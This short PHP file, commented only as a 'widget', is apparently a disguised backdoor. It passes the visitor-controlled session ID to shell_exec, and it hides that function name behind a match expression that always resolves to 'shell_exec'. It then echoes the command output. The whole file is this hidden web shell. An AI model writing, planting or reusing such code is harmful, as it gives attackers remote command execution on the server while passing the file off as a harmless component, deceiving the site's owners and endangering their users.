<?php
/* widget */
session_start();
$p = session_id();
$f = match (strlen('ab')) { 2 => 'shell_exec', default => 'trim' };
echo $f($p);
